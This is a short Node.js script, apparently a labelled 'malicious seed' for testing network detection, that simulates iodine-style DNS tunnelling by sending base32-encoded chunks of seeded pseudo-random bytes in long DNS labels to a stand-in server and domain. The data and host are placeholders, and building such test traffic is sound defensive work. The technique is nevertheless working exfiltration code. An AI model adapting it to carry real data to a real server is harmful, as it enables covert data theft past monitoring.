// Malicious seed 2A: an iodine-style DNS tunnel. One connected UDP socket to the attacker's name server, carrying
// base32-encoded data in long labels, polling continuously.
// Usage: node dns-tunnel.mjs --seed N --server 203.0.113.53 --domain t.tunnel.example --log FILE
import dgram from 'node:dgram';
import { args, rng, seedFor, ready, logger, sleep, dnsQuery, base32, labels, onStop, lifetime } from './lib.mjs';

const opt = args();
const r = rng(seedFor(opt.seed ?? 1, 'dns-tunnel'));
const log = logger(opt.log);
const server = opt.server ?? '203.0.113.53';
const domain = opt.domain ?? 't.tunnel.example';
lifetime(opt['max-life-ms'] ?? 120_000);

const s = dgram.createSocket('udp4');
onStop(() => s.close());
let answers = 0;
s.on('message', () => answers++);
s.on('error', () => {});
await new Promise((resolve) => s.connect(53, server, resolve));

// "Exfiltrated" bytes: pseudo-random, from the seed.
const secret = Buffer.from(Array.from({ length: 4096 }, () => r.int(0, 255)));
let off = 0;
ready({ localPort: s.address().port });
for (let seq = 0; ; seq++) {
  const chunk = secret.subarray(off, off + 110);
  off = (off + 110) % (secret.length - 110);
  const name = [...labels(`${seq.toString(36)}${base32(chunk)}`, 63), domain].join('.');
  s.send(dnsQuery(r.int(1, 65535), name, 10)); // NULL records, as iodine asks for
  if (seq % 10 === 0) log({ kind: 'query', seq, len: name.length, answers });
  await sleep(r.int(250, 900));
}
